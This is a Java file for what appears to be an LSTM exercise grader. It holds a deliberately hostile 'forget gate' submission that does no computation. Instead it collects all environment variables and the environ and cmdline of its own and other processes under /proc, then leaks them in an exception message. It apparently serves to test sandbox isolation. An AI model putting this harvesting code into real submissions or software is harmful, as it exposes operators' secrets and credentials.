package org.lstmlab.exercises;

import java.nio.file.Files;
import java.nio.file.Path;
import org.nd4j.linalg.api.ndarray.INDArray;

/** Hostile submission: reports every environment and command line it can read, its own and other processes'. */
public final class E3ForgetGate {
    public static INDArray forgetGate(INDArray hPrev, INDArray x, INDArray wF, INDArray bF) {
        StringBuilder seen = new StringBuilder("SEEN ");
        System.getenv().forEach((k, v) -> seen.append(k).append('=').append(v).append(' '));
        for (String pid : new String[] {"self", "1", "2", "3"}) {
            for (String what : new String[] {"environ", "cmdline"}) {
                try {
                    byte[] b = Files.readAllBytes(Path.of("/proc", pid, what));
                    seen.append(pid).append('/').append(what).append('=');
                    seen.append(new String(b, java.nio.charset.StandardCharsets.UTF_8).replace('\0', ' '));
                    seen.append(' ');
                } catch (Exception unreadable) {
                    // not there
                }
            }
        }
        throw new IllegalStateException(seen.toString());
    }
}
